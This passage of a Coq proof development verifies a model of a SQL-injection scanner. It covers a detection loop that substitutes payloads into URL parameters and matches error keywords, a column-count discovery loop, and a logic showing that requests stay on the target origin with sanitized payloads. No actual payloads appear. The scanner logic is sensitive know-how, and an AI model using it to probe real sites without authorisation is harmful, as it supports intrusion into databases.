    unfold sqlHit, ret. destruct (matchesSqlError _); reflexivity. }
  pose proof (forParamsFrom_scan _ _ _ _ _ (length (searchParams u)) 0 u w (Hbody _)) as Hscan.
  destruct (scan sqlHit _) as [sent|sent message|sent].
  - destruct Hscan as [url' Hscan]. unfold bind. rewrite Hscan. done.
  - unfold bind at 1. rewrite Hscan. unfold bind, log, perform, ret. cbn [fst snd].
    by rewrite emits_snoc.
  - destruct Hscan as [url' Hscan]. unfold bind at 1. rewrite Hscan.
    unfold bind, delay, perform, ret. cbn [fst snd]. by rewrite emits_snoc.
Qed.

Lemma forOf_detection url u config payloads w :
  parseURL url = Some u →
  (∀ p, p ∈ payloads → Z.of_nat (String.length p) ≤ maxPayloadLength config) →
  forOf payloads (detectPayload url config) w =
    (Ok (if (detection config u payloads).1 then Some true else None),
     emits (detection config u payloads).2 w).
Proof.
  intros Hu. revert w. induction payloads as [|p rest IH]; intros w Hfit; [done|].
  simpl. unfold bind at 1. rewrite (detectPayload_run _ u) by (auto; apply Hfit; left).
  destruct (payloadEvents config u p) as [[] evs]; cbn [fst snd]; [done|].
  rewrite IH by (intros; apply Hfit; by right).
  destruct (detection config u rest) as [found evs']. cbn [fst snd]. by rewrite emits_app.
Qed.

Lemma testBasicVulnerability_run url u config w :
  parseURL url = Some u →
  (∀ p, p ∈ DETECTION_PAYLOADS → Z.of_nat (String.length p) ≤ maxPayloadLength config) →
  testBasicVulnerability url config w =
    (Ok (detection config u DETECTION_PAYLOADS).1,
     emits (detection config u DETECTION_PAYLOADS).2 w).
Proof.
  intros Hu Hfit. unfold testBasicVulnerability, bind.
  rewrite (forOf_detection _ u) by done.
  by destruct (detection config u DETECTION_PAYLOADS).1.
Qed.

(** *** What the loop does, payload by payload *)

Lemma payloadEvents_found config u payload :
  (payloadEvents config u payload).1 = true ↔ answers sqlHit (probes u (sanitized payload)).
Proof.
  rewrite <- scan_hit. unfold payloadEvents.
  destruct (scan sqlHit _); simpl; split; eauto; try done; by intros [? [=]].
Qed.

Lemma payloadEvents_silent config u payload :
  (payloadEvents config u payload).1 = false → Forall silent (payloadEvents config u payload).2.
Proof.
  unfold payloadEvents. destruct (scan sqlHit _); simpl; [done| |]; intros _;
    (apply Forall_app; split; [apply silent_requests | by repeat constructor]).
Qed.

Lemma payloadEvents_replay config u payload r :
  (payloadEvents config u payload).1 = true →
  replay (payloadEvents config u payload).2 r =
    applyMutation (PushSuccessfulPayload (sanitized payload)) r.
Proof.
  unfold payloadEvents. destruct (scan sqlHit _); simpl; [|done..]. intros _.
  rewrite replay_app, (replay_silent (map Request sent)) by apply silent_requests. done.
Qed.

Lemma payloadEvents_requests config u payload url :
  Request url ∈ (payloadEvents config u payload).2 → url ∈ probes u (sanitized payload).
Proof.
  unfold payloadEvents. destruct (scan_sent sqlHit (probes u (sanitized payload))) as [rest Hs].
  destruct (scan sqlHit _); simpl; rewrite Hs; intros [Hin|Hin]%elem_of_app;
    try (apply list_elem_of_fmap in Hin as (x & [= <-] & Hx); apply elem_of_app; by left);
    repeat (apply elem_of_cons in Hin as [Hin|Hin]; [done|]); by apply elem_of_nil in Hin.
Qed.

Lemma payloadEvents_warning config u payload message :
  breaks sqlHit (probes u (sanitized payload)) message →
  detectionWarning (sanitized payload) message ∈ (payloadEvents config u payload).2.
Proof.
  intros [sent Hs]%scan_broken. unfold payloadEvents. rewrite Hs. simpl.
  apply elem_of_app. right. by left.
Qed.

(** The effects of the rounds of a list of payloads, none of which is detected. *)
Definition rounds (config : ScanConfig) (u : URL) (payloads : list string) : list Event :=
  flat_map (λ q, (payloadEvents config u q).2) payloads.

Lemma detection_app config u l1 l2 :
  (∀ q, q ∈ l1 → (payloadEvents config u q).1 = false) →
  detection config u (l1 ++ l2) =
    ((detection config u l2).1, rounds config u l1 ++ (detection config u l2).2).
Proof.
  induction l1 as [|q l1 IH]; intros Hno; simpl.
  - by destruct (detection config u l2).
  - pose proof (Hno q ltac:(left)) as Hq.
    destruct (payloadEvents config u q) as [found evs]. simpl in Hq. subst found.
    rewrite IH by (intros; apply Hno; by right). simpl. by rewrite app_assoc.
Qed.

Lemma detection_none config u l :
  (∀ q, q ∈ l → (payloadEvents config u q).1 = false) →
  detection config u l = (false, rounds config u l).
Proof.
  intros Hno. rewrite <- (app_nil_r l) at 1. rewrite detection_app by done.
  simpl. by rewrite app_nil_r.
Qed.

Lemma detection_first config u l1 p l2 :
  (∀ q, q ∈ l1 → (payloadEvents config u q).1 = false) →
  (payloadEvents config u p).1 = true →
  detection config u (l1 ++ p :: l2) =
    (true, rounds config u l1 ++ (payloadEvents config u p).2).
Proof.
  intros Hno Hp. rewrite detection_app by done. simpl.
  destruct (payloadEvents config u p) as [found evs]. simpl in Hp. by subst found.
Qed.

Lemma rounds_silent config u l :
  (∀ q, q ∈ l → (payloadEvents config u q).1 = false) → Forall silent (rounds config u l).
Proof.
  intros Hno. unfold rounds. apply Forall_flat_map, Forall_forall.
  intros q Hq. by apply payloadEvents_silent, Hno.
Qed.

Lemma detection_requests config u l url :
  Request url ∈ (detection config u l).2 → ∃ q, q ∈ l ∧ url ∈ probes u (sanitized q).
Proof.
  induction l as [|p l IH]; simpl; [by intros ?%elem_of_nil|].
  destruct (payloadEvents config u p) as [found evs] eqn:E.
  assert (Request url ∈ evs → url ∈ probes u (sanitized p)) as Hp.
  { intros Hin. apply (payloadEvents_requests config). by rewrite E. }
  destruct found; simpl.
  - intros Hin. exists p. split; [by left | auto].
  - destruct (detection config u l) as [found' evs']. simpl in *.
    intros [Hin|Hin]%elem_of_app.
    + exists p. split; [by left | auto].
    + destruct (IH Hin) as (q & Hq & Hurl). exists q. split; [by right | done].
Qed.

Lemma breaks_not_answers hit urls message : breaks hit urls message → ¬ answers hit urls.
Proof.
  intros [sent Hb]%scan_broken [sent' Ha]%scan_hit. congruence.
Qed.

Lemma scan_first hit url urls :
  url ∈ match scan hit (url :: urls) with Hit sent | Broken sent _ | Clean sent => sent end.
Proof.
  simpl. destruct (transport url) as [data|message]; [|by left].
  destruct (hit data); [by left|]. destruct (scan hit urls); by left.
Qed.

Lemma payloadEvents_first config u payload url urls :
  probes u (sanitized payload) = url :: urls →
  Request url ∈ (payloadEvents config u payload).2.
Proof.
  intros Hp. unfold payloadEvents. rewrite Hp.
  pose proof (scan_first sqlHit url urls) as Hin.
  destruct (scan sqlHit (url :: urls)); simpl; apply elem_of_app; left;
    apply list_elem_of_fmap; eauto.
Qed.

Lemma detection_head config u p l ev :
  ev ∈ (payloadEvents config u p).2 → ev ∈ (detection config u (p :: l)).2.
Proof.
  simpl. destruct (payloadEvents config u p) as [[] evs]; simpl; [done|].
  destruct (detection config u l). simpl. intros Hin. apply elem_of_app. by left.
Qed.

(** C4, as amended.  [testBasicVulnerability] goes through the detection
    payloads in catalog order.  For each payload it sets every query parameter
    in turn to the sanitized payload, without restoring the parameters set
    before, so that with distinct parameter names the [k]-th request of a
    payload carries it in the first [k] parameters.  A response body is a
    match when its lower-case form contains [sql], [error] or [syntax],
    whatever the case.  The function returns true at the first match, after
    recording the sanitized payload, and false when no payload matches.  A
    failed request is logged with a warning and ends the round of its payload;
    the loop goes on with the next payload. *)
Theorem C4_detection url u config w :
  parseURL url = Some u →
  (∀ p, p ∈ DETECTION_PAYLOADS → Z.of_nat (String.length p) ≤ maxPayloadLength config) →
  let detected p := answers sqlHit (probes u (sanitized p)) in
  let out := testBasicVulnerability url config w in
  (∀ l1 p l2, DETECTION_PAYLOADS = l1 ++ p :: l2 →
     (∀ q, q ∈ l1 → ¬ detected q) → detected p →
     out.1 = Ok true ∧
     result out.2 = applyMutation (PushSuccessfulPayload (sanitized p)) (result w)) ∧
  ((∀ q, q ∈ DETECTION_PAYLOADS → ¬ detected q) →
     out.1 = Ok false ∧ result out.2 = result w) ∧
  (∀ l1 q l2 message, DETECTION_PAYLOADS = l1 ++ q :: l2 →
     (∀ q', q' ∈ l1 → ¬ detected q') →
     breaks sqlHit (probes u (sanitized q)) message →
     detectionWarning (sanitized q) message ∈ trace out.2 ∧
     ∀ next url urls, head l2 = Some next → probes u (sanitized next) = url :: urls →
       Request url ∈ trace out.2) ∧
  (∀ url, Request url ∈ trace out.2 →
     Request url ∈ trace w ∨ ∃ q, q ∈ DETECTION_PAYLOADS ∧ url ∈ probes u (sanitized q)) ∧
  (NoDup (searchParams u).*1 → ∀ v,
     probes u v = map (λ k, withParams u (substituteFirst k v (searchParams u)))
                      (seq 1 (length (searchParams u)))).
Proof.
  intros Hu Hfit detected out.
  assert (out = (Ok (detection config u DETECTION_PAYLOADS).1,
                 emits (detection config u DETECTION_PAYLOADS).2 w)) as Hout.
  { by apply testBasicVulnerability_run. }
  assert (∀ l : list string, (∀ q, q ∈ l → ¬ detected q) →
               ∀ q, q ∈ l → (payloadEvents config u q).1 = false) as Hnot.
  { intros l Hl q Hq. destruct (payloadEvents config u q).1 eqn:E; [|done].
    apply payloadEvents_found in E. by apply Hl in E. }
  rewrite Hout. cbn [fst snd]. split; [|split; [|split; [|split]]].
  - intros l1 p l2 Hcat Hl1 Hp.
    rewrite Hcat, detection_first by (by apply Hnot || by apply payloadEvents_found).
    split; [done|]. cbn [snd]. rewrite emits_result, replay_app.
    rewrite (replay_silent (rounds _ _ _)) by (by apply rounds_silent, Hnot).
    by apply payloadEvents_replay, payloadEvents_found.
  - intros Hall. rewrite detection_none by (by apply Hnot). split; [done|]. cbn [snd].
    rewrite emits_result. by apply replay_silent, rounds_silent, Hnot.
  - intros l1 q l2 message Hcat Hl1 Hq.
    rewrite Hcat, detection_app by (by apply Hnot). cbn [snd].
    rewrite emits_trace. split.
    + apply elem_of_app. right. apply elem_of_app. right.
      by apply detection_head, payloadEvents_warning.
    + intros next url' urls Hnext Hprobes. destruct l2 as [|n l2]; [done|].
      injection Hnext as ->.
      apply elem_of_app. right. apply elem_of_app. right.
      change (q :: next :: l2) with ([q] ++ next :: l2).
      rewrite detection_app.
      * cbn [snd]. apply elem_of_app. right. eapply detection_head, payloadEvents_first. done.
      * intros q' ->%list_elem_of_singleton.
        destruct (payloadEvents config u q).1 eqn:E; [|done].
        apply payloadEvents_found in E. by apply breaks_not_answers in Hq.
  - intros url'. rewrite emits_trace. intros [Hin|Hin]%elem_of_app; [by left|].
    right. by apply detection_requests in Hin.
  - intros Hnd v. by apply probes_distinct.
Qed.

End Detection.

(** ** The scanner: column discovery *)

Section Discovery.
Import Scanner.
Context `{Environment}.

(** The test of [findColumnCount] on a response body: no [error] in it. *)
Definition columnHit (data : string) : bool := negb (includes "error" (toLowerCase data)).

Definition columnWarning (i : nat) (message : string) : Event :=
  Log (mkLog "WARN" ("Error testing column payload " +:+ showZ (Z.of_nat (i + 1)) +:+
                     ": " +:+ message)).

(** The count one round of [findColumnCount] returns, if any, and its effects. *)
Definition columnEvents (config : ScanConfig) (u : URL) (round : nat * string)
    : option nat * list Event :=
  match scan columnHit (probes u (sanitized round.2)) with
  | Hit sent => (Some (round.1 + 1)%nat, map Request sent)
  | Broken sent message => (None, map Request sent ++ [columnWarning round.1 message])
  | Clean sent => (None, map Request sent ++ [Delay (requestDelay config)])
  end.

Fixpoint discovery (config : ScanConfig) (u : URL) (rounds : list (nat * string))
    : option nat * list Event :=
  match rounds with
  | [] => (None, [])
  | round :: rest =>
      match columnEvents config u round with
      | (Some n, evs) => (Some n, evs)
      | (None, evs) => let '(found, evs') := discovery config u rest in (found, evs ++ evs')
      end
  end.

Lemma probeColumns_run url u config round w :
  parseURL url = Some u →
  Z.of_nat (String.length round.2) ≤ maxPayloadLength config →
  probeColumns url config round w =
    (Ok (columnEvents config u round).1, emits (columnEvents config u round).2 w).
Proof.
  destruct round as [i payload]. intros Hu Hfit. simpl in Hfit.
  unfold probeColumns, sanitizePayload.
  rewrite (sanitizePayload_fits _ _ Hfit). fold (sanitized payload).
  unfold bind at 1, lift. unfold tryCatch, newURL. rewrite Hu. unfold bind at 1, ret at 1.
  unfold forParams, columnEvents, probes. cbn [fst snd].
  set (body := λ (param : string) (testUrl : URL), _).
  assert (Probing (sanitized payload) columnHit [] (i + 1)%nat body) as Hbody.
  { intros urls param testUrl w' _. unfold body, bind, httpGet, bind, perform.
    cbn zeta. destruct (transport _) as [data|message]; [|done].
    unfold columnHit, ret. destruct (negb _); reflexivity. }
  pose proof (forParamsFrom_scan _ _ _ _ _ (length (searchParams u)) 0 u w (Hbody _)) as Hscan.
  destruct (scan columnHit _) as [sent|sent message|sent].
  - destruct Hscan as [url' Hscan]. unfold bind. rewrite Hscan. by rewrite app_nil_r.
  - unfold bind at 1. rewrite Hscan. unfold bind, log, perform, ret. cbn [fst snd].
    by rewrite emits_snoc.
  - destruct Hscan as [url' Hscan]. unfold bind at 1. rewrite Hscan.
    unfold bind, delay, perform, ret. cbn [fst snd]. by rewrite emits_snoc.
Qed.

Lemma forOf_discovery url u config rounds w :
  parseURL url = Some u →
  (∀ round, round ∈ rounds → Z.of_nat (String.length round.2) ≤ maxPayloadLength config) →
  forOf rounds (probeColumns url config) w =
    (Ok (discovery config u rounds).1, emits (discovery config u rounds).2 w).
Proof.
  intros Hu. revert w. induction rounds as [|round rest IH]; intros w Hfit; [done|].
  simpl. unfold bind at 1. rewrite (probeColumns_run _ u) by (auto; apply Hfit; left).
  destruct (columnEvents config u round) as [[n|] evs]; cbn [fst snd]; [done|].
  rewrite IH by (intros; apply Hfit; by right).
  destruct (discovery config u rest) as [found evs']. cbn [fst snd]. by rewrite emits_app.
Qed.

Lemma indexed_fits (payloads : list string) (limit : Z) :
  (∀ p, p ∈ payloads → Z.of_nat (String.length p) ≤ limit) →
  ∀ round, round ∈ indexed payloads → Z.of_nat (String.length round.2) ≤ limit.
Proof.
  intros Hfit [i p] Hin. unfold indexed in Hin.
  apply list_elem_of_lookup in Hin as [k Hk]. rewrite list_lookup_imap in Hk.
  destruct (payloads !! k) as [p'|] eqn:E; simpl in Hk; [|done]. injection Hk as <- <-.
  simpl. apply Hfit. by eapply list_elem_of_lookup_2.
Qed.

Lemma findColumnCount_run url u config w :
  parseURL url = Some u →
  (∀ p, p ∈ COLUMN_PAYLOADS → Z.of_nat (String.length p) ≤ maxPayloadLength config) →
  findColumnCount url config w =
    (Ok (default 0%nat (discovery config u (indexed COLUMN_PAYLOADS)).1),
     emits (discovery config u (indexed COLUMN_PAYLOADS)).2 w).
Proof.
  intros Hu Hfit. unfold findColumnCount, bind.
  by rewrite (forOf_discovery _ u) by (done || by apply indexed_fits).
Qed.

(** *** What the loop does, payload by payload *)

Lemma columnEvents_found config u round n :
  (columnEvents config u round).1 = Some n ↔
  n = (round.1 + 1)%nat ∧ answers columnHit (probes u (sanitized round.2)).
Proof.
  rewrite <- scan_hit. unfold columnEvents.
  destruct (scan columnHit _); simpl; split.
  - intros [= <-]. eauto.
  - by intros [-> _].
  - done.
  - by intros [_ [? [=]]].
  - done.
  - by intros [_ [? [=]]].
Qed.

Lemma columnEvents_none config u round :
  ¬ answers columnHit (probes u (sanitized round.2)) → (columnEvents config u round).1 = None.
Proof.
  intros Hno. destruct (columnEvents config u round).1 as [n|] eqn:E; [|done].
  apply columnEvents_found in E as [_ E]. done.
Qed.

Lemma columnEvents_silent config u round : Forall silent (columnEvents config u round).2.
Proof.
  unfold columnEvents. destruct (scan columnHit _); simpl;
    [apply silent_requests | |];
    (apply Forall_app; split; [apply silent_requests | by repeat constructor]).
Qed.

Lemma columnEvents_requests config u round url :
  Request url ∈ (columnEvents config u round).2 → url ∈ probes u (sanitized round.2).
Proof.
  unfold columnEvents. destruct (scan_sent columnHit (probes u (sanitized round.2))) as [rest Hs].
  destruct (scan columnHit _); simpl; rewrite Hs; rewrite ?elem_of_app;
    intros Hin; left.
  - by apply request_sent.
  - destruct Hin as [Hin|Hin]; [by apply request_sent|].
    apply list_elem_of_singleton in Hin. discriminate.
  - destruct Hin as [Hin|Hin]; [by apply request_sent|].
    apply list_elem_of_singleton in Hin. discriminate.
Qed.

Lemma discovery_app config u rs1 rs2 :
  (∀ r, r ∈ rs1 → (columnEvents config u r).1 = None) →
  ∃ evs, discovery config u (rs1 ++ rs2) =
           ((discovery config u rs2).1, evs ++ (discovery config u rs2).2).
Proof.
  induction rs1 as [|r rs1 IH]; intros Hno; simpl.
  - exists []. by destruct (discovery config u rs2).
  - pose proof (Hno r ltac:(left)) as Hr.
    destruct (columnEvents config u r) as [found evs]. simpl in Hr. subst found.
    destruct IH as [evs' ->]; [intros; apply Hno; by right|].
    exists (evs ++ evs'). by rewrite app_assoc.
Qed.

Lemma discovery_silent config u rs : Forall silent (discovery config u rs).2.
Proof.
  induction rs as [|r rs IH]; simpl; [constructor|].
  pose proof (columnEvents_silent config u r) as Hr.
  destruct (columnEvents config u r) as [[n|] evs]; simpl in *; [done|].
  destruct (discovery config u rs). simpl in *. by apply Forall_app.
Qed.

Lemma discovery_requests config u rs url :
  Request url ∈ (discovery config u rs).2 → ∃ r, r ∈ rs ∧ url ∈ probes u (sanitized r.2).
Proof.
  induction rs as [|r rs IH]; simpl; [by intros ?%elem_of_nil|].
  pose proof (columnEvents_requests config u r url) as Hr.
  destruct (columnEvents config u r) as [[n|] evs]; simpl in *.
  - intros Hin. exists r. split; [by left | auto].
  - destruct (discovery config u rs) as [found' evs']. simpl in *.
    intros [Hin|Hin]%elem_of_app.
    + exists r. split; [by left | auto].
    + destruct (IH Hin) as (q & Hq & Hurl). exists q. split; [by right | done].
Qed.

Lemma indexed_app {X} (l1 l2 : list X) p :
  ∃ rest, indexed (l1 ++ p :: l2) = indexed l1 ++ (length l1, p) :: rest.
Proof.
  unfold indexed. rewrite imap_app. simpl. rewrite Nat.add_0_r. eauto.
Qed.

Lemma indexed_payload {X} (l : list X) r : r ∈ indexed l → r.2 ∈ l.
Proof.
  unfold indexed. intros [k Hk]%list_elem_of_lookup. rewrite list_lookup_imap in Hk.
  destruct (l !! k) as [x|] eqn:E; simpl in Hk; [|done]. injection Hk as <-.
  by eapply list_elem_of_lookup_2.
Qed.

Lemma discovery_first config u l1 p l2 :
  (∀ q, q ∈ l1 → ¬ answers columnHit (probes u (sanitized q))) →
  answers columnHit (probes u (sanitized p)) →
  (discovery config u (indexed (l1 ++ p :: l2))).1 = Some (length l1 + 1)%nat.
Proof.
  intros Hno Hp. destruct (indexed_app l1 l2 p) as [rest ->].
  destruct (discovery_app config u (indexed l1) ((length l1, p) :: rest)) as [evs ->].
  { intros r Hr. apply columnEvents_none, Hno. by apply indexed_payload. }
  simpl.
  assert ((columnEvents config u (length l1, p)).1 = Some (length l1 + 1)%nat) as E.
  { by apply columnEvents_found. }
  by destruct (columnEvents config u (length l1, p)) as [[n|] evs']; simpl in *; simplify_eq.
Qed.

Lemma discovery_none config u l :
  (∀ q, q ∈ l → ¬ answers columnHit (probes u (sanitized q))) →
  (discovery config u (indexed l)).1 = None.
Proof.
  intros Hno.
  destruct (discovery_app config u (indexed l) []) as [evs Hd].
  { intros r Hr. apply columnEvents_none, Hno. by apply indexed_payload. }
  rewrite app_nil_r in Hd. by rewrite Hd.
Qed.

End Discovery.

(** ** The scanner: a logic of effects

    [Emits P Q m]: whatever the world, [m] extends the trace by effects that
    all satisfy [P], and ends in an outcome that satisfies [Q]. *)

Section Effects.
Import Scanner.
Local Open Scope js_scope.

Definition Emits {A} (P : Event → Prop) (Q : Outcome A → Prop) (m : M A) : Prop :=
  ∀ w, ∃ evs, (m w).2 = emits evs w ∧ Forall P evs ∧ Q (m w).1.

(** The outcome of a loop body over the parameters: the URL object it leaves
    satisfies [Inv], its early result [QR], its exception [QE]. *)
Definition roundPost {R} (Inv : URL → Prop) (QR : option R → Prop) (QE : string → Prop)
    (o : Outcome (URL * option R)) : Prop :=
  match o with
  | Ok (u, r) => Inv u ∧ QR r
  | Throw e => QE e
  end.

(** The outcome of a task that shares the state [S] with its siblings. *)
Definition taskPost {S} (Inv : S → Prop) (o : Outcome (S * Outcome unit)) : Prop :=
  match o with
  | Ok (s, _) => Inv s
  | Throw _ => False
  end.

(** The outcome of a computation that does not throw. *)
Definition returns {A} (Q : A → Prop) (o : Outcome A) : Prop :=
  match o with
  | Ok a => Q a
  | Throw _ => False
  end.

Context {P : Event → Prop}.

Lemma emits_ret {A} (Q : Outcome A → Prop) a : Q (Ok a) → Emits P Q (ret a).
Proof. intros HQ w. exists []. split; [reflexivity|]. split; [constructor | exact HQ]. Qed.

Lemma emits_throw {A} (Q : Outcome A → Prop) e : Q (Throw e) → Emits P Q (throw e).
Proof. intros HQ w. exists []. split; [reflexivity|]. split; [constructor | exact HQ]. Qed.

Lemma emits_lift {A} (Q : Outcome A → Prop) o : Q o → Emits P Q (lift o).
Proof. intros HQ w. exists []. split; [reflexivity|]. split; [constructor | exact HQ]. Qed.

Lemma emits_getResult (Q : Outcome SQLInjectionResult → Prop) :
  (∀ r, Q (Ok r)) → Emits P Q getResult.
Proof. intros HQ w. exists []. split; [reflexivity|]. split; [constructor | apply HQ]. Qed.

Lemma emits_perform (Q : Outcome unit → Prop) ev : P ev → Q (Ok tt) → Emits P Q (perform ev).
Proof.
  intros Hev HQ w. exists [ev]. split; [reflexivity|]. split; [by repeat constructor | exact HQ].
Qed.

Lemma emits_weaken {A} (Q Q' : Outcome A → Prop) (m : M A) :
  (∀ o, Q o → Q' o) → Emits P Q m → Emits P Q' m.
Proof. intros HQ Hm w. destruct (Hm w) as (evs & ? & ? & ?). exists evs. auto. Qed.

Lemma emits_bind {A B} (Q1 : Outcome A → Prop) (Q : Outcome B → Prop) m (f : A → M B) :
  Emits P Q1 m →
  (∀ a, Q1 (Ok a) → Emits P Q (f a)) →
  (∀ e, Q1 (Throw e) → Q (Throw e)) →
  Emits P Q (bind m f).
Proof.
  intros Hm Hf He w. unfold bind. destruct (Hm w) as (evs & Hw & Hevs & HQ).
  destruct (m w) as [[a|e] w1]; simpl in *; subst w1.
  - destruct (Hf a HQ (emits evs w)) as (evs' & Hw' & Hevs' & HQ').
    exists (evs ++ evs'). rewrite emits_app. split; [done|]. split; [by apply Forall_app|done].
  - exists evs. auto.
Qed.

Lemma emits_tryCatch {A} (Q1 Q : Outcome A → Prop) m (handler : string → M A) :
  Emits P Q1 m →
  (∀ a, Q1 (Ok a) → Q (Ok a)) →
  (∀ e, Q1 (Throw e) → Emits P Q (handler e)) →
  Emits P Q (tryCatch m handler).
Proof.
  intros Hm Ha Hh w. unfold tryCatch. destruct (Hm w) as (evs & Hw & Hevs & HQ).
  destruct (m w) as [[a|e] w1]; simpl in *; subst w1.
  - exists evs. auto.
  - destruct (Hh e HQ (emits evs w)) as (evs' & Hw' & Hevs' & HQ').
    exists (evs ++ evs'). rewrite emits_app. split; [done|]. split; [by apply Forall_app|done].
Qed.

Lemma emits_settle {A} (Q1 : Outcome A → Prop) (Q : Outcome (Outcome A) → Prop) m :
  Emits P Q1 m → (∀ o, Q1 o → Q (Ok o)) → Emits P Q (settle m).
Proof.
  intros Hm HQ w. unfold settle. destruct (Hm w) as (evs & Hw & Hevs & HQ1).
  destruct (m w) as [o w1]. simpl in *. exists evs. auto.
Qed.

Lemma emits_forOf {X R} (Q : Outcome (option R) → Prop) (xs : list X) body :
  (∀ x, x ∈ xs → Emits P Q (body x)) → Q (Ok None) → Emits P Q (forOf xs body).
Proof.
  intros Hbody Hnone. induction xs as [|x xs IH]; simpl; [by apply emits_ret|].
  apply emits_bind with (Q1 := Q); [apply Hbody; by left | | done].
  intros [v|] Hv; [by apply emits_ret|]. apply IH. intros; apply Hbody; by right.
Qed.

Lemma emits_forParamsFrom {R} (Inv : URL → Prop) (QR : option R → Prop) (QE : string → Prop)
    rounds index testUrl body :
  Inv testUrl → QR None →
  (∀ param u, Inv u → Emits P (roundPost Inv QR QE) (body param u)) →
  Emits P (roundPost Inv QR QE) (forParamsFrom rounds index testUrl body).
Proof.
  intros Hinv Hnone Hbody. revert index testUrl Hinv.
  induction rounds as [|rounds IH]; intros index testUrl Hinv; simpl; [by apply emits_ret|].
  destruct (searchParams testUrl !! index) as [[param value]|]; [|by apply emits_ret].
  apply emits_bind with (Q1 := roundPost Inv QR QE); [by apply Hbody | | done].
  intros [u [v|]] [Hu Hv]; [by apply emits_ret|]. by apply IH.
Qed.

Lemma emits_promiseAll {S} (Inv : S → Prop) (tasks : list (S → M (S * Outcome unit))) s :
  Inv s →
  (∀ task s, task ∈ tasks → Inv s → Emits P (taskPost Inv) (task s)) →
  Emits P (taskPost Inv) (promiseAll tasks s).
Proof.
  intros Hinv Htasks. revert s Hinv.
  induction tasks as [|task tasks IH]; intros s Hinv; simpl; [by apply emits_ret|].
  apply emits_bind with (Q1 := taskPost Inv); [apply Htasks; [by left | done] | | done].
  intros [s1 o] Hs1.
  apply emits_bind with (Q1 := taskPost Inv);
    [apply IH; [intros; apply Htasks; [by right | done] | done] | | done].
  intros [s2 os] Hs2. by apply emits_ret.
Qed.

Lemma emits_awaitAll (Q : Outcome unit → Prop) (tasks : list (M unit)) :
  (∀ task, task ∈ tasks → Emits P (λ _, True) task) → (∀ o, Q o) → Emits P Q (awaitAll tasks).
Proof.
  intros Htasks HQ. unfold awaitAll.
  apply emits_bind with (Q1 := taskPost (λ _ : unit, True)).
  - apply emits_promiseAll; [done|]. intros task s (m & -> & Hm)%list_elem_of_fmap _.
    unfold alone.
    apply emits_bind with (Q1 := returns (λ _, True)); [|intros; by apply emits_ret|done].
    apply emits_settle with (Q1 := λ _, True); [by apply Htasks | done].
  - intros [s o] _. by apply emits_lift.
  - done.
Qed.

Lemma emits_pLimit (Q : Outcome unit → Prop) n : (∀ o, Q o) → Emits P Q (pLimit n).
Proof. intros HQ. unfold pLimit. destruct (n <? 1); [by apply emits_throw | by apply emits_ret]. Qed.

(** A computation changes the world only by the effects it adds to the trace. *)
Lemma emits_result_replay {A} (Q : Outcome A → Prop) (m : M A) w :
  Emits P Q m →
  ∃ evs, trace (m w).2 = trace w ++ evs ∧ result (m w).2 = replay evs (result w) ∧
         Forall P evs ∧ Q (m w).1.
Proof.
  intros Hm. destruct (Hm w) as (evs & -> & Hevs & HQ). exists evs.
  by rewrite emits_trace, emits_result.
Qed.

End Effects.

Lemma emits_mono {A} (P P' : Scanner.Event → Prop) (Q : Outcome A → Prop) (m : Scanner.M A) :
  (∀ ev, P ev → P' ev) → Emits P Q m → Emits P' Q m.
Proof.
  intros HP Hm w. destruct (Hm w) as (evs & ? & Hevs & ?). exists evs.
  split; [done|]. split; [|done]. eapply Forall_impl; eauto.
Qed.

(** ** The scanner: what a request carries *)

Section Requests.
Import Scanner.
Local Open Scope js_scope.
Context `{Environment}.
Context (url : string) (u0 : URL) (Hurl : parseURL url = Some u0).
Context (config : ScanConfig).

(** A URL object derived from the URL under test: every parameter holds a
    sanitized payload or a value of the URL under test. *)
Definition Tame (testUrl : URL) : Prop :=
  origin testUrl = origin u0 ∧ hostname testUrl = hostname u0 ∧
  pathname testUrl = pathname u0 ∧
  ∀ name value, (name, value) ∈ searchParams testUrl →
    Sanitized (maxPayloadLength config) value ∨ value ∈ (searchParams u0).*2.

(** A request of the scan: a tame URL with a sanitized payload in one of its
    parameters. *)
Definition GoodRequest (testUrl : URL) : Prop :=
  Tame testUrl ∧
  ∃ param payload, (param, payload) ∈ searchParams testUrl ∧
                   Sanitized (maxPayloadLength config) payload.

Definition Allowed (ev : Event) : Prop :=
  match ev with
  | Request testUrl => GoodRequest testUrl
  | _ => True
  end.

Lemma tame_initial : Tame u0.
Proof.
  repeat split. intros name value Hin. right.
  apply list_elem_of_fmap. by exists (name, value).
Qed.

Lemma setFirst_elements name v (sp : SearchParams) p :
  p ∈ setFirst name v sp → p = (name, v) ∨ p ∈ sp.
Proof.
  induction sp as [|[n x] sp IH]; simpl; [by right|].
  case_bool_decide as Hn.
  - subst n. intros [->|Hin]%elem_of_cons; [by left|].
    right. right. unfold Js.delete in Hin. by apply list_elem_of_filter in Hin as [_ ?].
  - intros [->|Hin]%elem_of_cons; [right; by left|].
    destruct (IH Hin) as [->|?]; [by left | right; by right].
Qed.

Lemma setFirst_member name v (sp : SearchParams) :
  name ∈ sp.*1 → (name, v) ∈ setFirst name v sp.
Proof.
  induction sp as [|[n x] sp IH]; simpl; [by intros ?%elem_of_nil|].
  case_bool_decide as Hn; [subst; by left|].
  intros [?|Hin]%elem_of_cons; [done|]. right. by apply IH.
Qed.

Lemma set_elements name v (sp : SearchParams) p : p ∈ Js.set name v sp → p = (name, v) ∨ p ∈ sp.
Proof.
  unfold Js.set. destruct (has name sp); [apply setFirst_elements|].
  intros [?|Hin]%elem_of_app; [by right|]. apply list_elem_of_singleton in Hin. by left.
Qed.

Lemma set_member name v (sp : SearchParams) : (name, v) ∈ Js.set name v sp.
Proof.
  unfold Js.set, has. case_bool_decide; [by apply setFirst_member|].
  apply elem_of_app. right. by left.
Qed.

Lemma good_setParam param v testUrl :
  Tame testUrl → Sanitized (maxPayloadLength config) v → GoodRequest (setParam param v testUrl).
Proof.
  intros (Ho & Hh & Hp & Hv) Hs. split; [|exists param, v; split; [apply set_member | done]].
  split; [done|]. split; [done|]. split; [done|].
  intros name value [[= -> ->]|Hin]%set_elements; [by left | eauto].
Qed.

Lemma emits_httpGet (P : Event → Prop) testUrl :
  P (Request testUrl) → Emits P (λ _, True) (httpGet testUrl).
Proof.
  intros HP. unfold httpGet.
  apply emits_bind with (Q1 := λ _, True); [by apply emits_perform | | done].
  intros _ _. destruct (transport testUrl); [by apply emits_ret | by apply emits_throw].
Qed.

Lemma emits_sanitizePayload (P : Event → Prop) payload :
  Emits P (λ o, match o with
                | Ok v => Sanitized (maxPayloadLength config) v
                | Throw _ => True
                end)
        (sanitizePayload payload (maxPayloadLength config)).
Proof.
  unfold sanitizePayload. apply emits_lift.
